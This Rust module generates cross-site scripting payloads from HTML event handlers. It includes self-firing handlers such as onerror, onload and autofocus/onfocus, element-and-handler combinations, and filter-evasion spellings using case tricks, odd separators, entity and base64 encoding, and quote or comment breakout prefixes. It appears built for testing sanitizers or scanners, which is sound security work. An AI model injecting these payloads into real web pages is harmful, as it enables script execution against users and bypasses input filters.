//! Event handlers: the elements that call one by themselves, and those that wait for a hand.

use super::payload::{Draft, html};

pub(super) fn all() -> Vec<Draft> {
    [
        html("handler that runs by itself", BY_ITSELF),
        html("handler that waits", waiting()),
        html("handler, oddly written", spelled()),
    ]
    .concat()
}

const BY_ITSELF: [&str; 24] = [
    "<img src=x onerror={js}>",
    "<img src onerror={js}>",
    "<image src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><g onload={js}></g></svg>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<body onresize={js} onfocus={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<button autofocus onfocus={js}>b</button>",
    "<a href=x autofocus onfocus={js}>a</a>",
    "<div tabindex=0 autofocus onfocus={js}>d</div>",
    "<video src=x onerror={js}></video>",
    "<video><source src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<audio><source onerror={js}></audio>",
    "<iframe src=about:blank onload={js}></iframe>",
    "<object data=x onerror={js}></object>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<details open ontoggle={js}><summary>s</summary></details>",
    "<style>@keyframes k{from{opacity:0}}</style><p style=animation:k onanimationstart={js}>p</p>",
    "<style>p{transition:opacity 1ms}</style><p ontransitionend={js} style=opacity:0>p</p>",
    "<script src=x onerror={js}></script>",
];

const ELEMENTS: [&str; 8] = ["a", "b", "div", "td", "label", "h1", "marquee", "made-up"];
const HANDLERS: [&str; 9] = [
    "onclick",
    "onmouseover",
    "onpointerenter",
    "onfocusin",
    "onkeydown",
    "oncopy",
    "onwheel",
    "ondragstart",
    "oncontextmenu",
];

/// Every element with every handler.
fn waiting() -> Vec<String> {
    let each = |element: &&str| {
        let element = (*element).to_owned();
        HANDLERS
            .map(move |handler| format!("<{element} {handler}={{js}} tabindex=0>touch</{element}>"))
    };
    ELEMENTS.iter().flat_map(each).collect()
}

/// One handler behind every way of writing an attribute that browsers read.
fn spelled() -> Vec<String> {
    const WAYS: [&str; 16] = [
        "src=x onerror=\"{js}\"",
        "src=x onerror='{js}'",
        "src=x onerror = {js}",
        "src=x/onerror={js}",
        "src=x\tonerror={js}",
        "src=x\u{c}onerror={js}",
        "src=x ONERROR={js}",
        "src=x oNeRrOr={js}",
        "src=\"x\"onerror={js}",
        "src='x'onerror={js}",
        "\"\"src=x onerror={js}",
        "src=x onerror=&#119;indow.breached={n}",
        "src=x onerror=window&period;breached&equals;{n}",
        "src=x onerror=eval(atob('d2luZG93LmJyZWFjaGVkPXs='+'fQ==')||'{js}')",
        "src=`x` onerror={js}",
        "alt=\"<x\" src=x onerror={js} title=\">\"",
    ];
    let mut all: Vec<String> = WAYS.iter().map(|way| format!("<img {way}>")).collect();
    all.extend([
        "<img/src=x/onerror={js}/>".to_owned(),
        "<img src=x onerror={js}".to_owned(),
        "<img src=x onerror={js} //".to_owned(),
        "\"><img src=x onerror={js}>".to_owned(),
        "'><img src=x onerror={js}>".to_owned(),
        "--><img src=x onerror={js}>".to_owned(),
        "]]><img src=x onerror={js}>".to_owned(),
    ]);
    all
}
